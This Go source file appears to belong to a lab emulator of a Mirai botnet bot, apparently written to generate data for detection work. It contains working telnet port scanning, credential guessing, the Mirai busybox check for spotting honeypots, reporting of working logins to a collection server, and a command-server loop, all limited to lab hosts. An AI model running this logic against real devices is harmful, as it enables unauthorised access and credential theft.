package mirai

import (
	"context"
	"encoding/binary"
	"errors"
	"flag"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/netip"
	"syscall"
	"time"

	"detgen/emulator/internal/options"
	"detgen/emulator/internal/peer"
	"detgen/lab/inside"
)

// bot is one of the botnet.
type bot struct {
	name    string
	server  string // of commands, HOST:PORT
	reports string // where reports go, HOST:PORT
	ping    time.Duration
	pings   int // to end after; 0 for none
	orders  int // to end after; 0 for none
	tries   int // to reach the server
	again   time.Duration
	lab     func(host string) error // refuses what is no host of the lab
	note    func(...any)
}

// Bot is the main of a bot. With --targets it looks for open telnet ports there, guesses the logins of --logins and
// reports those that fit, and ends. Without, it holds a connection to the server: it pings, and prints each order. It
// prints "open ADDRESS", "closed ADDRESS", "login ADDRESS USER" for each that fits, "guesses N"; or "online", "ping",
// "order VECTOR ADDRESS SECONDS dport=N size=N", and "gave up" when it has not reached the server so many times.
func Bot(ctx context.Context, args []string) error {
	f := flag.NewFlagSet("mirai-bot", flag.ContinueOnError)
	server := f.String("server", "", "HOST:PORT of the commands")
	reports := f.String("reports", "", "HOST:PORT of the reports")
	name := f.String("name", "bot", "what it calls itself, at most 32 bytes")
	targets := f.String("targets", "", "file with an address HOST:PORT of the lab in each line, at most 64")
	logins := f.String("logins", "", "file with a user and a password in each line, at most 64")
	pause := f.Duration("pause", 0, "before each guess, at most 1m")
	ping := f.Duration("ping", time.Minute, "between two pings, at most 10m")
	pings := f.Int("pings", 0, "to end after, at most 1000; 0 for none")
	orders := f.Int("orders", 0, "to end after, at most 10; 0 for none")
	tries := f.Int("tries", 5, "to reach the server, at most 100")
	again := f.Duration("again", time.Second, "before it tries again, at most 1m")
	if err := options.Parse(f, args, "server", "reports"); err != nil {
		return err
	}
	for name, most := range map[string]int{"pings": pingsMost, "orders": ordersMost, "tries": 100} {
		if err := options.Within(f, name, 0, most); err != nil {
			return err
		}
	}
	for name, most := range map[string]time.Duration{"pause": time.Minute, "ping": 10 * time.Minute, "again": time.Minute} {
		if err := options.WithinTime(f, name, 0, most); err != nil {
			return err
		}
	}
	if *name == "" || len(*name) > 32 {
		return fmt.Errorf("--name %q: want 1 to 32 bytes", *name)
	}
	for flag, address := range map[string]string{"server": *server, "reports": *reports} {
		if err := labAddress(address); err != nil {
			return fmt.Errorf("--%s: %w", flag, err)
		}
	}
	b := &bot{
		name: *name, server: *server, reports: *reports, ping: *ping, pings: *pings, orders: *orders, tries: *tries, again: *again, lab: inside.LabHost,
		note: func(words ...any) { fmt.Println(words...) },
	}
	if *targets == "" {
		return b.serve(ctx)
	}
	hosts, err := peer.Lines(*targets, 1, targetsMost)
	if err != nil {
		return fmt.Errorf("--targets: %w", err)
	}
	for _, host := range hosts {
		if err := labAddress(host[0]); err != nil {
			return fmt.Errorf("--targets: %w", err)
		}
	}
	guesses, err := peer.Lines(*logins, 2, loginsMost)
	if err != nil {
		return fmt.Errorf("--logins: %w", err)
	}
	return b.scan(ctx, hosts, guesses, *pause)
}

// labAddress refuses what is no HOST:PORT of the lab.
func labAddress(address string) error {
	_, err := inside.LabAddress(address)
	return err
}

// scan looks for open ports, guesses logins in a random order, and reports those that fit.
func (b *bot) scan(ctx context.Context, hosts, logins [][]string, pause time.Duration) error {
	if err := inside.Phase("scan"); err != nil {
		return err
	}
	rand.Shuffle(len(hosts), func(i, j int) { hosts[i], hosts[j] = hosts[j], hosts[i] })
	var open []string
	for _, host := range hosts {
		c, err := dial(ctx, host[0])
		if errors.Is(err, syscall.ECONNREFUSED) {
			b.note("closed", host[0])
			continue
		}
		if err != nil {
			return err
		}
		c.Close()
		b.note("open", host[0])
		open = append(open, host[0])
	}
	guesses := 0
	for _, host := range open {
		if err := inside.Phase("guess"); err != nil {
			return err
		}
		for _, i := range rand.Perm(len(logins)) {
			select {
			case <-ctx.Done():
				return ctx.Err()
			case <-time.After(pause):
			}
			user, password := logins[i][0], logins[i][1]
			guesses++
			fits, err := try(ctx, host, user, password)
			if err != nil {
				return fmt.Errorf("%s: %w", host, err)
			}
			if !fits {
				continue
			}
			b.note("login", host, user)
			if err := inside.Phase("report"); err != nil {
				return err
			}
			if err := b.report(ctx, host, user, password); err != nil {
				return err
			}
			break
		}
	}
	b.note("guesses", guesses)
	return nil
}

func dial(ctx context.Context, address string) (net.Conn, error) {
	return (&net.Dialer{Timeout: patience}).DialContext(ctx, "tcp", address)
}

// try says whether a login fits. Where it does, the bot asks for a shell and for a program that no device has, by
// whose answer bots know a device from a trap, and leaves.
func try(ctx context.Context, address, user, password string) (bool, error) {
	c, err := dial(ctx, address)
	if err != nil {
		return false, err
	}
	defer c.Close()
	stop := context.AfterFunc(ctx, func() { c.Close() })
	defer stop()
	t := &telnet{Conn: c}
	if _, err := t.expect("ogin: "); err != nil {
		return false, err
	}
	if err := t.say(user); err != nil {
		return false, err
	}
	if _, err := t.expect("assword: "); err != nil {
		return false, err
	}
	if err := t.say(password); err != nil {
		return false, err
	}
	// What login(1) says, or the prompt.
	if which, err := t.expect("ncorrect", "# ", "$ "); err != nil || which == 0 {
		return false, err
	}
	for _, line := range []string{"enable", "system", "shell", "sh"} {
		if err := t.say(line); err != nil {
			return false, err
		}
		if _, err := t.expect("# ", "$ "); err != nil {
			return false, err
		}
	}
	if err := t.say("/bin/busybox MIRAI"); err != nil {
		return false, err
	}
	_, err = t.expect("MIRAI: applet not found")
	return err == nil, err
}

// report tells the server of a login that fits.
func (b *bot) report(ctx context.Context, host, user, password string) error {
	address, err := netip.ParseAddrPort(host)
	if err != nil {
		return err
	}
	c, err := dial(ctx, b.reports)
	if err != nil {
		return err
	}
	defer c.Close()
	_, err = c.Write(found{address, user, password}.bytes())
	return err
}

// serve holds a connection to the server until it has had its orders or pings.
func (b *bot) serve(ctx context.Context) error {
	if err := inside.Phase("connect"); err != nil {
		return err
	}
	for range b.tries {
		c, err := dial(ctx, b.server)
		if err == nil {
			defer c.Close()
			if err := b.attend(ctx, c); ctx.Err() == nil { // else the connection was closed for the end
				return err
			}
			return nil
		}
		if ctx.Err() != nil {
			return nil // the end came before the connection
		}
		if !errors.Is(err, syscall.ECONNREFUSED) {
			return err
		}
		select {
		case <-ctx.Done():
			return nil
		case <-time.After(b.again):
		}
	}
	b.note("gave up")
	return nil
}

func (b *bot) attend(ctx context.Context, c net.Conn) error {
	stop := context.AfterFunc(ctx, func() { c.Close() })
	defer stop()
	if _, err := c.Write(append([]byte{0, 0, 0, 1, byte(len(b.name))}, b.name...)); err != nil {
		return err
	}
	b.note("online")
	if err := inside.Phase("keep-alive"); err != nil {
		return err
	}
	pings, orders := 0, 0
	next := time.Now().Add(b.ping)
	for {
		var head [2]byte
		if err := c.SetReadDeadline(next); err != nil {
			return err
		}
		n, err := io.ReadFull(c, head[:])
		var timeout net.Error
		switch {
		case errors.As(err, &timeout) && timeout.Timeout() && n == 0:
			if pings >= pingsMost {
				return fmt.Errorf("no end after %d pings", pings)
			}
			if _, err := c.Write([]byte{0, 0}); err != nil {
				return err
			}
			next = time.Now().Add(b.ping)
			continue
		case err != nil:
			return fmt.Errorf("the server has gone: %w", err)
		}
		length := int(binary.BigEndian.Uint16(head[:]))
		if length == 0 {
			pings++
			b.note("ping")
			if pings == b.pings {
				return nil
			}
			continue
		}
		if err := c.SetReadDeadline(time.Now().Add(patience)); err != nil {
			return err
		}
		o, err := takeOrder(c, length)
		if err != nil {
			return err
		}
		if err := b.lab(o.target.String()); err != nil {
			return fmt.Errorf("order %q: %w", o, err)
		}
		orders++
		b.note("order", o)
		if orders == b.orders {
			return nil
		}
	}
}
